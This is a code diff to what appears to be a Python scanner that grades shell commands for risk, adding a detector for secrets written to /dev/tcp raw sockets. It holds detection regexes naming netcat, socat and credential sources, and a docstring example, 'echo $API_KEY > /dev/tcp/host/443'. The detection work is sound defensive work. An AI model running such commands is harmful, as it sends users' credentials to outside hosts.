@@ -274,6 +274,7 @@ _PIPED_BEFORE = rx(r"(?:[^|]\||^\|)\s*(?:\w+=\S+\s+)*(?:(?:xargs|timeout\s+\S+|n
 _STDIN_DATA = rx(r"(?:@-|-T\s*-(?:\s|$)|--upload-file\s+-(?:\s|$)|</dev/stdin|@/dev/stdin)")
 _LOCAL_DATA = rx(r"(?i)(?:\$\(\s*cat\s*-?\s*\)|\$\(\s*(?:whoami|hostname|id|uname[^)]*|pwd|ls[^)]*|env|printenv)\s*\)|</dev/stdin|\bhistory\b|\bcat\s*(?:\||$|-\s)|\btar\s+[^\n|]*\||\bzip\s+-r|\bfind\s+/|\bgit\s+(?:diff|log|show)\b|\bls\s+-\w*r)")
 _SOCKET_TARGET = rx(r"(?i)(?:\b(?:nc|ncat|netcat|telnet)\s+(?:-\S+\s+)*([a-z0-9][\w.-]*)\s+\d{2,5}|\bs_client\s+(?:-\S+\s+)*-connect\s+([a-z0-9][\w.-]*):\d+|\bsocat\b[^\n]*?tcp4?:([a-z0-9][\w.-]*):\d+)")
+_DEV_TCP_WRITE = rx(r"""(?i)((?:^|[\s;&|({`'"])(?:echo|printf|cat|env|printenv|set)\b[^\n;&|<>]*)\d?>>?\s*/dev/(?:tcp|udp)/([^/\s]+)/\d+""")
 _INDEX_FLAGS = ("--index-url", "--extra-index-url", "--default-index", "--index", "-i", "--registry", "--find-links", "-f", "--python", "--cache", "--userconfig")
 _INDEX_FLAG = rx(r"(?i)(?:^|\s)(?:--index-url|--extra-index-url|--default-index|--index|-i|--registry|--find-links|-f)[\s=]+['\"]?((?:https?|ftp)://[^\s'\"]+)")
 _URL_LOOSE = rx(r"(?i)\b(?:https?|ftp|wss?)://[^\s'\"`<>]+")
@@ -414,6 +415,7 @@ class _Grader:
         self.decodes()
         self.reverse_shells()
         self.credentials()
+        self.dev_tcp_writes()
         self.structure()
         if self.unattended:
             self.indexes()
@@ -633,6 +635,21 @@ class _Grader:
                 self.add(CRED_EXFIL, s0, s1, "Files published as a public gist", Severity.MEDIUM)
             elif what == "http" and grade == "paste" and _DATA_FLAG.search(seg.encode()):
                 self.add(CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)
+
+    def dev_tcp_writes(self) -> None:
+        """`echo $API_KEY > /dev/tcp/host/443`: bash opens the socket and writes the value to it."""
+        for m in _DEV_TCP_WRITE.finditer(self.data):
+            host = self.text(m, 2).lower()
+            if _private(host):
+                continue
+            names = [n for n in (next((x for x in g.groups() if x), b"").decode("utf-8", "replace")
+                                 for g in _SECRET_VAR.finditer(m.group(1))) if c.is_secret_env_name(n)]
+            source = _CRED_COMMAND.search(m.group(1)) is not None or _ENV_DUMP.search(m.group(1)) is not None
+            if names or source:
+                self.add(CRED_EXFIL, m.start(), m.end(), f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
+                         Severity.CRITICAL, f"tcp://{host}", "ip" if H.is_ip(host) else "unknown", host)
+            elif self.unattended:
+                self.add(c.HOST_DATA_EXFIL, m.start(), m.end(), f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)
 
     def _piped_between(self, a: int, b: int) -> bool:
         """Is the source's output piped into the sink (a `|` between them, not `||`)?"""
